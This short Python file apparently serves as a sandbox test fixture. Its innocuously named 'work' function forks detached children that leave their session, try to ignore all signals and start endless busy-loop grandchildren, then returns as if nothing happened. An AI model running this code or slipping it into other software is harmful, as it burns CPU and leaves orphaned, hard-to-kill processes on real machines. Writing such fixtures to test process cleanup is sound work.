import os
import signal


def work(number):
    for _ in range(4):
        if os.fork() == 0:
            os.setsid()
            for each in range(1, signal.NSIG):
                try:
                    signal.signal(each, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            if os.fork() == 0:
                while True:
                    os.write(1, b".") if os.path.exists("/box/work/never") else None
            os._exit(0)
    return number


def items(count):
    return range(count)


def each(function, count):
    for number in range(count):
        function(number)
    return count


def calm(number):
    return 2 * number
